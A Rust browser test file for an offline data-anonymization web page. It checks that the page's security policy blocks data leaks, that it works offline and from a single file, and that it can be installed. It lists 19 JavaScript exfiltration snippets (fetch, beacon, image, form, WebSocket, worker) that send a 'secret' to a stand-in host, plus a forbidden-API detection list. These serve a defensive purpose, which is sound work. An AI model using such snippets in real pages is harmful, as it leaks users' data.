//! Nothing leaves the page: each channel that its policy closes is tried, and what no policy closes the page's code does
//! not use.

use std::{
    fs,
    path::Path,
    time::{Duration, Instant},
};

use lookalike_tests::program::{Folder, PATIENCE, workspace};
use serde_json::json;

use crate::{page::Page, sink::Sink};

/// Ways to send a secret elsewhere; `out` is where to. Each may throw or be ignored, as the browser likes.
const CHANNELS: [(&str, &str); 19] = [
    ("fetch", "fetch(out, { mode: 'no-cors' }).catch(() => {})"),
    (
        "fetch with keepalive",
        "fetch(out, { mode: 'no-cors', method: 'POST', keepalive: true }).catch(() => {})",
    ),
    ("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', out); x.send()"),
    ("beacon", "navigator.sendBeacon(out, 'secret')"),
    ("image", "new Image().src = out"),
    ("image of a style", "document.body.style.backgroundImage = `url(${out})`"),
    ("form", "add('form', { action: out, method: 'post' }).submit()"),
    (
        "form in a frame",
        "add('iframe', { name: 'f' }); add('form', { action: out, method: 'post', target: 'f' }).submit()",
    ),
    ("font", "new FontFace('x', `url(${out})`).load().catch(() => {})"),
    ("frame", "add('iframe', { src: out })"),
    ("object", "add('object', { data: out })"),
    ("embed", "add('embed', { src: out })"),
    ("video", "add('video', { src: out })"),
    ("script", "add('script', { src: out })"),
    ("style sheet", "add('link', { rel: 'stylesheet', href: out })"),
    ("prefetch", "add('link', { rel: 'prefetch', href: out })"),
    ("WebSocket", "new WebSocket(out.replace('http', 'ws'))"),
    ("EventSource", "new EventSource(out)"),
    (
        "Web Worker",
        "new Worker(URL.createObjectURL(new Blob([`fetch('${out}', { mode: 'no-cors' }); importScripts('${out}')`])))",
    ),
];

/// Tries every channel; what reaches the sink has left the page.
async fn try_all(client: &fantoccini::Client, sink: &Sink) {
    for (at, (name, code)) in CHANNELS.iter().enumerate() {
        let out = format!("http://elsewhere.example/{at}?secret");
        let attempt = format!(
            "const out = '{out}';\
             const add = (name, given) => document.body.appendChild(Object.assign(document.createElement(name), given));\
             try {{ {code} }} catch (error) {{ }}"
        );
        client.execute(&attempt, vec![]).await.unwrap();
        tokio::time::sleep(Duration::from_millis(150)).await;
        assert_eq!(sink.requests(), Vec::<String>::new(), "by {name}");
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(sink.requests(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_channel_that_the_policy_closes_leads_out() {
    let page = Page::open(&[]).await;
    try_all(&page.client, &page.sink).await;
    // The proxy does see what is not blocked: no policy keeps anybody from going elsewhere.
    let _ = page.client.goto("http://elsewhere.example/").await;
    assert!(page.sink.requests().iter().any(|line| line.contains("elsewhere.example")));
    page.close().await;
}

/// The page as one file, from a disk: the same, and the whole way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_as_one_file_works_from_a_disk_and_is_sealed() {
    let file = std::env::var_os("LOOKALIKE_SINGLE_FILE")
        .map_or_else(|| workspace().join("target/web/lookalike.html"), std::path::PathBuf::from);
    assert!(file.is_file(), "{} is missing: build it with `cargo xtask single-file`", file.display());
    let folder = Folder::new();
    fs::copy(&file, folder.file("lookalike.html")).unwrap();
    folder.write("in.csv", crate::hospital());
    folder.write("in.csv.gz", crate::opening::gzip(&crate::hospital()));
    let page = Page::from_disk(&folder.file("lookalike.html")).await;
    assert_eq!(page.attribute("#threads", "data-isolated").await, "false");
    page.click("#sample-hospital").await;
    page.find("#opened[data-name='hospital.csv']").await;
    // The others are offered on the first screen, too.
    page.client.refresh().await.unwrap();
    page.attribute_not("#threads", "data-threads", "0").await;
    page.click("#sample-release-2").await;
    page.find("#opened[data-name='release-2.csv']").await;
    crate::command_line(&folder, "3", "5", "5");
    // The import module is inside, too.
    page.find("#file-input").await.send_keys(&folder.file("in.csv.gz")).await.unwrap();
    page.find("#open-form[data-packing='gzip']").await;
    crate::set_up(&page, &folder, "3", "5", "5").await;
    page.anonymize().await;
    assert_eq!(crate::text(&page.download("#download-table").await), folder.text("out.csv"));
    assert!(!page.saved("#download-config", "in-config.json").await.is_empty());
    try_all(&page.client, &page.sink).await;
    page.close().await;
}

/// No policy closes navigation, and not reliably peer connections and name look-ups: the code must have none.
const FORBIDDEN: [&str; 17] = [
    "RTCPeerConnection",
    "RTCDataChannel",
    "WebTransport",
    "window.open",
    "self.open(",
    "location.assign",
    "location.replace",
    "location =",
    "location.href =",
    ".navigate(",
    "navigation.",
    "dns-prefetch",
    "preconnect",
    "prerender",
    "http-equiv=\"refresh\"",
    "document.write",
    "eval(",
];

fn scripts(folder: &Path, found: &mut Vec<std::path::PathBuf>) {
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let ending = path.extension().and_then(|e| e.to_str()).unwrap_or_default();
        if path.is_dir() {
            scripts(&path, found);
        } else if ["js", "html"].contains(&ending) {
            found.push(path);
        }
    }
}

/// What a wasm module can do is what the script beside it lends it, so the scripts tell all.
#[test]
fn the_code_uses_nothing_that_no_policy_closes() {
    let dist = std::env::var_os("LOOKALIKE_DIST")
        .map_or_else(|| workspace().join("target/web/dist"), std::path::PathBuf::from);
    let mut files = Vec::new();
    scripts(&dist, &mut files);
    assert!(files.len() >= 10, "{files:?}");
    let lacks = |text: &str, what: &str| !text.replace('\'', "\"").contains(what);
    for file in files {
        let text = fs::read_to_string(&file).unwrap();
        for what in FORBIDDEN {
            assert!(lacks(&text, what), "{} has {what}", file.display());
        }
    }
    assert!(
        !lacks("new RTCPeerConnection()", FORBIDDEN[0])
            && !lacks("<meta http-equiv='refresh'", FORBIDDEN[14])
    );
}

/// The paths that the service worker has kept of a build whose name begins so, once these are among them.
async fn kept(page: &Page, build: &str, wanted: &[&str]) -> Vec<String> {
    let list = "const [build, done] = arguments; (async () => {\
        const paths = [];\
        for (const name of (await caches.keys()).filter((name) => name.startsWith(build))) {\
          for (const { url } of await (await caches.open(name)).keys()) paths.push(new URL(url).pathname.slice(1));\
        }\
        done(paths);\
        })();";
    let end = Instant::now() + PATIENCE;
    loop {
        let paths = page.client.execute_async(list, vec![build.into()]).await.unwrap();
        let paths: Vec<String> = serde_json::from_value(paths).unwrap();
        if wanted.iter().all(|path| paths.iter().any(|kept| kept == path)) {
            return paths;
        }
        assert!(Instant::now() < end, "{wanted:?} are not all among {paths:?}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// What the name of every build begins with.
const BUILD: &str = "sha256-";

/// Parts of the page that come on demand.
const ON_DEMAND: [&str; 2] = ["engine/engine_bg.wasm", "import/import_bg.wasm"];

/// Without a network the page is still there, with everything that this browser can use, used before or not; what it cannot
/// use was never fetched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_works_without_its_server() {
    let folder = Folder::new();
    folder.write("in.csv", crate::hospital());
    folder.write("in.csv.gz", crate::opening::gzip(&crate::hospital()));
    let mut page = Page::open(&[]).await;
    let paths = kept(&page, BUILD, &[&ON_DEMAND[..], &["optimize/threads/optimize_bg.wasm"]].concat()).await;
    let useless = |path: &String| path.starts_with("optimize/single/") || path.starts_with("texts/");
    assert!(!paths.iter().any(useless), "{paths:?}");
    page.stop_server();
    page.client.refresh().await.unwrap();
    page.attribute_not("#threads", "data-threads", "0").await;
    // With threads: the headers were kept as well.
    assert_eq!(page.attribute("#threads", "data-isolated").await, "true");
    page.find("#file-input").await.send_keys(&folder.file("in.csv.gz")).await.unwrap();
    page.find("#open-form[data-packing='gzip']").await;
    crate::set_up(&page, &folder, "3", "1", "1").await;
    page.anonymize().await;
    assert!(!page.saved("#download-config", "in-config.json").await.is_empty());
    page.close().await;
}

/// Without threads the other search is kept, and of the languages the one that is spoken.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_search_and_one_language_are_kept() {
    let folder = Folder::new();
    folder.write("in.csv", crate::hospital());
    let mut page = Page::open_in(&["--no-isolation"], "de").await;
    // By the first visit, though the language came before there was somebody to keep it.
    let wanted = [&ON_DEMAND[..], &["optimize/single/optimize_bg.wasm", "texts/de.txt"]].concat();
    let paths = kept(&page, BUILD, &wanted).await;
    let useless = |path: &String| path.starts_with("optimize/threads/") || path == "texts/es.txt";
    assert!(!paths.iter().any(useless), "{paths:?}");
    page.stop_server();
    page.client.refresh().await.unwrap();
    page.find("html[lang='de']").await;
    crate::set_up(&page, &folder, "3", "1", "1").await;
    page.anonymize().await;
    page.close().await;
}

/// A new build takes over with everything that the one before had.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_new_build_keeps_what_the_one_before_had_kept() {
    let dist = std::env::var_os("LOOKALIKE_DIST")
        .map_or_else(|| workspace().join("target/web/dist"), std::path::PathBuf::from);
    let folder = Folder::new();
    crate::opening::copy(&dist, &folder.path().join("page"));
    let page = Page::open(&["--page", &folder.file("page")]).await;
    let wanted = [&ON_DEMAND[..], &["optimize/threads/optimize_bg.wasm", "index.html"]].concat();
    kept(&page, BUILD, &wanted).await;
    let script = folder.path().join("page/sw.js");
    let text = fs::read_to_string(&script).unwrap();
    let next = text.replace("const CACHE = '", "const CACHE = 'next ");
    assert_ne!(text, next);
    fs::write(&script, next).unwrap();
    page.client.refresh().await.unwrap();
    // It waits for the last window of the one before, complete.
    kept(&page, "next ", &wanted).await;
    page.close().await;
}

/// A page that can be installed says what it is called and how it looks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_can_be_installed() {
    let page = Page::open(&[]).await;
    let manifest = "const done = arguments[arguments.length - 1];\
        fetch('./manifest.webmanifest').then((answer) => answer.json()).then(done);";
    let manifest = page.client.execute_async(manifest, vec![]).await.unwrap();
    assert_eq!((&manifest["display"], &manifest["start_url"]), (&json!("standalone"), &json!("./")));
    let icons = manifest["icons"].as_array().unwrap();
    assert!(!icons.is_empty());
    for icon in icons {
        let load = "const done = arguments[arguments.length - 1]; const image = new Image();\
            image.onload = () => done(image.naturalWidth > 0); image.onerror = () => done(false);\
            image.src = arguments[0];";
        assert_eq!(page.client.execute_async(load, vec![icon["src"].clone()]).await.unwrap(), json!(true));
    }
    page.close().await;
}

/// The page may ask the browser for nothing that it does not use, and the browser knows every name of the list.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_may_ask_the_browser_for_nothing() {
    let page = Page::open(&[]).await;
    let script = "const done = arguments[arguments.length - 1]; fetch('./config.json').then((answer) => {\
        const denied = answer.headers.get('permissions-policy').split(', ').map((one) => one.split('=')[0]);\
        const policy = document.featurePolicy;\
        done([denied.length, denied.filter((name) => policy.allowsFeature(name)),\
            denied.filter((name) => !policy.features().includes(name)), policy.allowsFeature('cross-origin-isolated')]); })";
    let found = page.client.execute_async(script, vec![]).await.unwrap();
    assert!(found[0].as_u64() > Some(20), "{found}");
    assert_eq!((&found[1], &found[2], &found[3]), (&json!([]), &json!([]), &json!(true)));
    page.close().await;
}
